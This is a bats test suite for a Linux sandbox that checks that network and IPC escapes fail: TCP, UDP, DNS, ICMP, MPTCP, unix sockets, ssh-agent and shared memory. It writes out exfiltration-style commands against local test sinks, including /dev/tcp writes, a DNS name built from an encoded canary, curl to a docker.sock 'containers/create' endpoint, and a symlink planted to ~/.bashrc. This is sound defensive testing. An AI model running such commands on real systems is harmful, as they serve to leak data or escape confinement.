#!/usr/bin/env bats
# Network (THREATS NET-01/02/04/05/06/07/09/10, IPC-01/04/05): with the
# network off nothing leaves the sandbox.  Each test starts a sink in the
# host's network namespace (TCP+UDP on one port, dual stack, an abstract
# unix socket, pathname unix sockets) after proving it is reachable from
# outside, then attacks it from inside and checks the sink saw nothing.

load ../lib/common
source "$BATS_TEST_DIRNAME/_lib.bats"

setup() { esc_setup; }
teardown() { esc_teardown; }

@test "NET-09 TCP connect to the host's 127.0.0.1 (static, raw, libc/shim)" {
	start_sink
	run xsbx -- "$SBX_SYS.static" connect 127.0.0.1 "$PORT"
	echo "$output"
	denied
	run xsbx -- "$SBX_SYS" connect 127.0.0.1 "$PORT"
	denied
	run xsbx -- "$SBX_SYS" -l connect 127.0.0.1 "$PORT"
	denied
	assert_no_hits
}

@test "NET-01 bash /dev/tcp, python and curl to the host sink (dynamic)" {
	start_sink
	run xsbx -c "exec 3<>/dev/tcp/127.0.0.1/$PORT && echo leak >&3; $PY -c 'import socket; socket.create_connection((\"127.0.0.1\", $PORT), 2).send(b\"leak\")'; curl -s -m 2 http://127.0.0.1:$PORT/ ; true"
	echo "$output"
	assert_no_hits
}

@test "NET-09 IPv6 ::1 and v4-mapped ::ffff:127.0.0.1 (NET-07)" {
	start_sink
	run xsbx -c "$SBX_SYS.static connect ::1 $PORT; $SBX_SYS.static connect ::ffff:127.0.0.1 $PORT; $SBX_SYS.static udp ::1 $PORT; true"
	echo "$output"
	[[ "$output" != *"RESULT 0 OK"* && "$output" != *"RESULT 18 OK"* ]]
	assert_no_hits
}

@test "NET-01 the host's own non-loopback address" {
	ip4=$(host_ipv4)
	[ -n "$ip4" ] || ip4=127.0.0.2
	start_sink
	run xsbx -c "$SBX_SYS.static connect $ip4 $PORT; $SBX_SYS.static udp $ip4 $PORT; true"
	echo "$output"
	assert_no_hits
}

@test "NET-02 UDP sendto the host sink (static, python)" {
	start_sink
	run xsbx -- "$SBX_SYS.static" udp 127.0.0.1 "$PORT"
	echo "$output"
	denied
	run xsbx -c "$SBX_SYS.static udpconnect 127.0.0.1 $PORT; $PY -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"dns-exfil\", (\"127.0.0.1\", $PORT))'; echo x > /dev/udp/127.0.0.1/$PORT; true"
	echo "$output"
	assert_no_hits 0.3
}

@test "NET-02 DNS lookups of a crafted name go nowhere" {
	start_sink
	run xsbx -c "getent hosts \$(echo $CANARY | base32 | tr -d =).example.com; $SBX_SYS.static udp 127.0.0.53 53; true"
	echo "$output"
	[[ "$output" != *"RESULT 18 OK"* ]]
}

@test "NET-04 ICMP echo socket, SOCK_RAW and AF_PACKET" {
	run xsbx -- "$SBX_SYS.static" ping 127.0.0.1 0
	echo "$output"
	denied
	run xsbx -- "$SBX_SYS.static" raw 127.0.0.1 0
	denied
	run xsbx -- "$SBX_SYS.static" socket packet raw 0
	denied
	run xsbx -- "$SBX_SYS.static" socket inet raw icmp
	denied
}

@test "NET-05 MPTCP connect (not covered by Landlock TCP rules)" {
	start_sink
	run xsbx -- "$SBX_SYS.static" mptcp 127.0.0.1 "$PORT"
	echo "$output"
	denied
	assert_no_hits
}

@test "NET-05 MPTCP and SCTP sockets are refused by the filter" {
	run xsbx -- "$SBX_SYS.static" socket inet stream mptcp
	echo "$output"
	filtered
	run xsbx -- "$SBX_SYS.static" socket inet6 stream mptcp
	filtered
	run xsbx -- "$SBX_SYS.static" socket inet stream sctp
	echo "$output"
	case "$(result)" in "-1 EPROTONOSUPPORT"|"-1 ESOCKTNOSUPPORT") ;; *) filtered ;; esac
}

@test "NET-06 sendto(MSG_FASTOPEN) connects without connect(2)" {
	start_sink
	run xsbx -- "$SBX_SYS.static" fastopen 127.0.0.1 "$PORT"
	echo "$output"
	run xsbx -- "$SBX_SYS" -l fastopen 127.0.0.1 "$PORT"
	echo "$output"
	assert_no_hits 0.3
}

@test "NET-10 a listener inside is not reachable from the host" {
	port=$(( 20000 + RANDOM % 20000 ))
	xsbx --timeout 3 -- "$SBX_SYS.static" listen 0.0.0.0 "$port" > "$T/listen.out" 2>&1 3>&- &
	bg_track "$!"
	sleep 0.7
	run "$SBX_SYS.static" connect 127.0.0.1 "$port"
	echo "outside: $output"
	wait_for 5 grep -q RESULT "$T/listen.out" || true
	cat "$T/listen.out"
	# either bind was refused inside, or nothing got through
	grep -q sbx-attack-packet "$T/listen.out" && return 1
	[[ "$output" != *"RESULT 18 OK"* ]]
}

# landlock-only mode has no network namespace: --net loopback must fail
# closed (125, explained) rather than expose the host's loopback.
loopback_unavailable() {
	full_mode && return 1
	run xsbx --net loopback -- true
	echo "$output"
	[ "$status" -eq 125 ]
	[[ "$output" == *"network namespace"* ]]
}

@test "--net loopback: a server inside is reachable from inside, the host's sink is not" {
	start_sink
	loopback_unavailable && return 0
	run xsbx --net loopback -c "$SBX_SYS.static listen 127.0.0.1 $PORT & for i in 1 2 3 4 5 6 7 8 9 10; do sleep 0.1; $SBX_SYS.static connect 127.0.0.1 $PORT | grep -q 'RESULT 18 OK' && break; done; wait; $SBX_SYS.static connect ::1 $PORT; true"
	echo "$output"
	[[ "$output" == *"LISTENING"* ]]
	[[ "$output" == *"sbx-attack-packet"* ]]
	assert_no_hits
	run xsbx --net loopback -- "$SBX_SYS.static" udp 127.0.0.1 "$PORT"
	assert_no_hits
}

@test "--net on: the same connect reaches the sink (the sink works through sbxrun)" {
	start_sink
	run xsbx --net on -- "$SBX_SYS.static" connect 127.0.0.1 "$PORT"
	echo "$output"
	[ "$status" -eq 0 ]
	wait_for 3 grep -q '^tcp' "$SINK/hits"
}

@test "IPC-05 abstract unix socket of a host service (static, python)" {
	start_sink
	run xsbx -- "$SBX_SYS.static" unixabs "$MARK"
	echo "$output"
	denied
	run xsbx -- "$PY" -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('\0$MARK'); s.send(b'x')"
	echo "$output"
	[ "$status" -ne 0 ]
	assert_no_hits
}

@test "IPC-05 abstract socket also with --net loopback" {
	start_sink
	loopback_unavailable && return 0
	run xsbx --net loopback -- "$SBX_SYS.static" unixabs "$MARK"
	echo "$output"
	denied
	assert_no_hits
}

@test "IPC-01 pathname unix sockets of host services (docker.sock-like)" {
	mkdir -p "$HOME/.local/share/svc"
	socks="$T/docker.sock $HOME/.local/share/svc/api.sock /tmp/sbxt-$MARK.sock"
	UNIQ_FILES+=("/tmp/sbxt-$MARK.sock")
	start_sink $socks
	for s in $socks; do
		run xsbx -- "$SBX_SYS.static" unix "$s"
		echo "$s: $output"
	done
	# /run and /tmp sockets leave the view in full mode; sockets elsewhere
	# in a readable tree stay reachable until Landlock ABI 9 checks
	# connect(2): then the plan must say so.
	if full_mode && grep -q "/tmp/sbxt-$MARK.sock" "$SINK/hits" 2>/dev/null; then
		echo "a socket in the host's /tmp was reached in full mode" >&2
		return 1
	fi
	if [ -s "$SINK/hits" ]; then
		cat "$SINK/hits"
		plan_says_advisory 'pathname unix'
	fi
}

# E-02: root-equivalent sockets that live outside /run and /tmp (Rancher
# Desktop, Colima, Lima, LXD, Incus) are hidden by the default profile:
# unreachable in full mode; landlock-only must say it cannot stop them.
@test "IPC-01 E-02 docker/LXD sockets in ~/.rd, ~/.colima, ~/.lima are unreachable in full mode (static)" {
	mkdir -p "$HOME/.rd" "$HOME/.colima/default" "$HOME/.lima/default/sock"
	socks="$HOME/.rd/docker.sock $HOME/.colima/default/docker.sock $HOME/.lima/default/sock/docker.sock"
	start_sink $socks
	run xsbx -c "for s in $socks; do $SBX_SYS.static unix \$s; done; true"
	echo "$output"
	if full_mode; then
		assert_no_hits
		[ "$(printf '%s\n' "$output" | grep -c '^RESULT -1 ENOENT')" -eq 3 ]
	elif [ -s "$SINK/hits" ]; then
		plan_says_advisory 'pathname unix'
	fi
}

# E-01: the user's tmux server listens in the host's /tmp; a command that
# reaches it runs code outside.  A symlink planted in the host's /tmp
# redirects a later write of a program outside.  Full mode has a private
# /tmp; landlock-only cannot stop either and must say so.
@test "IPC-03 E-01 a tmux-like socket and a planted symlink in the host's /tmp (static)" {
	mkdir -p "/tmp/sbxt-tmux-$MARK"
	UNIQ_FILES+=("/tmp/sbxt-tmux-$MARK" "/tmp/sbxt-plant-$MARK")
	start_sink "/tmp/sbxt-tmux-$MARK/default"
	run xsbx -c "$SBX_SYS.static unix /tmp/sbxt-tmux-$MARK/default; $SBX_SYS.static symlink $HOME/.bashrc /tmp/sbxt-plant-$MARK; true"
	echo "$output"
	if full_mode; then
		assert_no_hits
		[ ! -L "/tmp/sbxt-plant-$MARK" ]
	else
		[ ! -s "$SINK/hits" ] || plan_says_advisory 'pathname unix'
		[ ! -L "/tmp/sbxt-plant-$MARK" ] || plan_says_advisory 'private /tmp'
	fi
}

@test "IPC-01 pathname unix socket reached through the shim (curl --unix-socket)" {
	start_sink "$T/docker.sock"
	run xsbx -c "curl -s -m 2 --unix-socket $T/docker.sock http://x/containers/create; $PY -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"$T/docker.sock\"); s.send(b\"x\")'; true"
	echo "$output"
	if [ -s "$SINK/hits" ]; then
		plan_says_advisory 'pathname unix'
	fi
}

@test "IPC-04 ssh-agent: SSH_AUTH_SOCK dropped, the agent socket in ~/.ssh unreachable" {
	start_sink "$HOME/.ssh/agent.sock"
	export SSH_AUTH_SOCK="$HOME/.ssh/agent.sock"
	run xsbx -c 'echo "sock=[${SSH_AUTH_SOCK:-}]"; '"$SBX_SYS.static unix $HOME/.ssh/agent.sock"
	unset SSH_AUTH_SOCK
	echo "$output"
	[[ "$output" == *"sock=[]"* ]]
	if full_mode; then
		denied
		assert_no_hits
	elif [ -s "$SINK/hits" ]; then
		# the socket sits in a hidden directory, yet connect() works:
		# only acceptable if the mode says so
		plan_says_advisory 'unix'
	fi
}

@test "IPC-07 SysV shared memory and /dev/shm of host processes" {
	key=$(( 0x5b000000 + RANDOM ))
	echo "$CANARY" > "/dev/shm/sbxt-$MARK"
	UNIQ_FILES+=("/dev/shm/sbxt-$MARK")
	"$PY" -c '
import ctypes, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
i = libc.shmget(int(sys.argv[1]), 4096, 0o1600)
p = libc.shmat(i, None, 0)
data = sys.argv[2].encode() + b"\0"
ctypes.memmove(p, data, len(data))
open(sys.argv[3], "w").write(str(i))
time.sleep(30)
libc.shmctl(i, 0, None)' "$key" "$CANARY" "$T/shmid" </dev/null >/dev/null 2>&1 3>&- &
	bg_track "$!"
	wait_for 5 test -s "$T/shmid"
	run xsbx -c "cat /dev/shm/sbxt-$MARK; $SBX_SYS.static shm $key; true"
	echo "$output"
	ipcrm -m "$(cat "$T/shmid")" 2>/dev/null || true
	no_canary "$output" || {
		full_mode && return 1
		plan_says_advisory 'ipc|shm|shared memory'
	}
}

@test "NET-10/IPC-05 an abstract socket bound inside (name squatting) is not reachable from the host" {
	name="sbxt-squat-$MARK"
	xsbx --timeout 3 -- "$SBX_SYS.static" listenabs "$name" > "$T/squat.out" 2>&1 3>&- &
	bg_track "$!"
	wait_for 3 grep -q LISTENING "$T/squat.out" || true
	run "$SBX_SYS.static" unixabs "$name"
	echo "host client: $output"
	wait_for 5 grep -q RESULT "$T/squat.out" || true
	cat "$T/squat.out"
	if [[ "$output" == *"RESULT 16 OK"* ]]; then
		# without a network namespace (network off costs none) a name
		# bound inside is visible outside: the plan must say so
		echo "a host client reached a server inside the sandbox through the abstract name @$name" >&2
		plan_says_advisory 'abstract unix'
	fi
}
